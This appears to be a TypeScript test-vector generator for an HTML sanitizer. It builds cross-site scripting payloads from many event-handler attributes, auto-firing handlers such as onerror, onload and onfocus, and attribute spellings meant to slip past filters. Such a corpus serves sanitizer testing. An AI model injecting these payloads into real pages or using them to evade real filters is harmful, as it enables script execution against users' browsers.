import { ALARM, type Draft, script } from './vector.ts';

/** Handlers in attributes, on elements that articles have and on elements that they don't. */
export function events(): Draft[] {
  const onAll = HANDLERS.flatMap((handler) =>
    ELEMENTS.map((element) => script(element.replace('*', `${handler}="${ALARM}"`))),
  );
  const byThemselves = FIRING.map(script);
  const spellings = SPELLINGS.map((attribute) => script(`<img src="x:y" ${attribute}>`));
  return [...byThemselves, ...spellings, ...onAll];
}

const ELEMENTS = [
  '<img src="x:y" alt="gull" *>',
  '<a href="https://example.org/" *>gull</a>',
  '<b * style="animation: x 1s" tabindex="1" autofocus>gull</b>',
  '<table *><tr><td *>gull</td></tr></table>',
  '<svg *><g *></g></svg>',
  '<details open *><summary>gull</summary>tern</details>',
  '<gull-card * autofocus tabindex="1" contenteditable>gull</gull-card>',
  '<video controls *><source * src="x:y"></video>',
];

const HANDLERS = (
  'onabort onafterprint onafterscriptexecute onanimationcancel onanimationend onanimationiteration onanimationstart ' +
  'onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforescriptexecute ' +
  'onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel oncanplay oncanplaythrough onchange onclick onclose ' +
  'oncommand oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ' +
  'ondragenter ondragexit ondragleave ondragover ondragstart ondrop ondurationchange onend onended onerror onfinish ' +
  'onfocus onfocusin onfocusout onformdata onfullscreenchange ongotpointercapture onhashchange oninput oninvalid ' +
  'onkeydown onkeypress onkeyup onlanguagechange onload onloadeddata onloadedmetadata onloadend onloadstart ' +
  'onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup ' +
  'onmousewheel onpagehide onpageshow onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter ' +
  'onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress ' +
  'onratechange onrepeat onreset onresize onscroll onscrollend onscrollsnapchange onsearch onsecuritypolicyviolation ' +
  'onseeked onseeking onselect onselectionchange onselectstart onshow onslotchange onstalled onstart onstorage onsubmit ' +
  'onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ' +
  'ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange onwaiting onwebkitanimationend ' +
  'onwebkittransitionend onwheel'
).split(' ');

/** Handlers whose event comes without anybody's doing. */
const FIRING = [
  `<img src="x:y" onerror="${ALARM}">`,
  `<img src=x:y onerror=${ALARM}>`,
  `<IMG SRC=x:y OnErRoR=${ALARM}>`,
  `<image src="x:y" onerror="${ALARM}">`,
  `<img srcset="x:y" onerror="${ALARM}">`,
  `<picture><source srcset="x:y"><img onerror="${ALARM}"></picture>`,
  `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload="${ALARM}">`,
  `<svg onload="${ALARM}"></svg>`,
  `<svg/onload=${ALARM}>`,
  `<svg><image href="x:y" onerror="${ALARM}"/></svg>`,
  `<svg><animate onbegin="${ALARM}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set onbegin="${ALARM}" attributeName="x" dur="1s"/></svg>`,
  `<svg><style onload="${ALARM}">x{}</style></svg>`,
  `<style onload="${ALARM}">x{}</style>`,
  `<body onload="${ALARM}">`,
  `<body onpageshow="${ALARM}">`,
  `<iframe onload="${ALARM}"></iframe>`,
  `<iframe src="about:blank" onload="${ALARM}"></iframe>`,
  `<object data="x:y" onerror="${ALARM}"></object>`,
  `<embed src="x:y" onerror="${ALARM}">`,
  `<embed src="about:blank" onload="${ALARM}">`,
  `<audio src="x:y" onerror="${ALARM}"></audio>`,
  `<video src="x:y" onerror="${ALARM}"></video>`,
  `<video><source src="x:y" onerror="${ALARM}"></video>`,
  `<audio autoplay onloadstart="${ALARM}" src="x:y"></audio>`,
  `<link rel="stylesheet" href="x:y" onerror="${ALARM}">`,
  `<link rel="preload" as="image" href="x:y" onerror="${ALARM}">`,
  `<script src="x:y" onerror="${ALARM}"></script>`,
  `<details open ontoggle="${ALARM}">gull</details>`,
  `<input autofocus onfocus="${ALARM}">`,
  `<select autofocus onfocus="${ALARM}"></select>`,
  `<textarea autofocus onfocus="${ALARM}"></textarea>`,
  `<button autofocus onfocus="${ALARM}">gull</button>`,
  `<div contenteditable autofocus onfocus="${ALARM}">gull</div>`,
  `<a href="#" autofocus tabindex="1" onfocus="${ALARM}">gull</a>`,
  `<marquee onstart="${ALARM}">gull</marquee>`,
  `<marquee loop="1" width="0" onfinish="${ALARM}">gull</marquee>`,
  `<input type="image" src="x:y" onerror="${ALARM}">`,
  `<b style="animation-name: gull" onanimationstart="${ALARM}">gull</b><style>@keyframes gull{}</style>`,
  `<b style="transition: outline 1s" ontransitionend="${ALARM}" tabindex="1" autofocus>gull</b>`,
  `<div style="overflow: scroll" onscroll="${ALARM}" autofocus tabindex="1">gull</div>`,
  `<div style="content-visibility: auto" oncontentvisibilityautostatechange="${ALARM}">gull</div>`,
  `<dialog open oncancel="${ALARM}" onclose="${ALARM}">gull</dialog>`,
  `<track src="x:y" onerror="${ALARM}">`,
];

/** Ways to write an attribute that parsers agree on and filters may not. */
const SPELLINGS = [
  `onerror=${ALARM}`,
  `onerror='${ALARM}'`,
  `onerror = "${ALARM}"`,
  `onerror\n=\n"${ALARM}"`,
  `onerror\t="${ALARM}"`,
  `onerror\f="${ALARM}"`,
  `/onerror="${ALARM}"`,
  `/ / onerror="${ALARM}"`,
  `"onerror="${ALARM}"`,
  `alt="x"onerror="${ALARM}"`,
  `alt=\`x\`onerror=${ALARM}`,
  `ONERROR="${ALARM}"`,
  `onerror="&#97;lert(${ALARM.length})${ALARM}"`,
  `onerror="void ${ALARM}//&quot;"`,
  `onerror="eval('${ALARM}')"`,
  `onerror="setTimeout('${ALARM}')"`,
  `onerror="Function('${ALARM}')()"`,
  `data-x="&quot; onerror=${ALARM} &quot;" onerror="${ALARM}"`,
  `x-onerror="1" onerror="${ALARM}"`,
  `on="1" onerror="${ALARM}"`,
];
